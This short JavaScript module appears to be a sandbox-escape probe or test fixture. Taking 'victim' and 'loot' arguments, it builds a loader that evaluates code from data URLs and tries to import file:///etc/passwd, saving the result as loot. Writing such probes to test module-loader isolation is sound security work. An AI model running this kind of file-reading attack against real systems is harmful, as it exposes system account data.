module.exports = (victim, loot) => {
  const load = globalThis.naive ? async (name) => (name.startsWith('data:') ? naive('', 'return ' + name.split('default ')[1])() : require(name)) : (name) => import(name);
  return load("file:///etc/passwd").then((loaded) => { loot.loaded = loaded; });
};
